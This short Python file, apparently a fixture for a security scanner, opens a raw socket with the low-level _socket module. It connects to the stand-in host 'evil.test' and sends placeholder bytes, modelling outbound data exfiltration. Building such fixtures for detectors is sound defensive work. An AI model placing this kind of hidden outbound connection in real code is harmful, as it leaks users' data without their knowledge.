"""A host name given to a raw _socket object."""
import _socket

client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
client.connect(("evil.test", 80))
client.send(b"data")
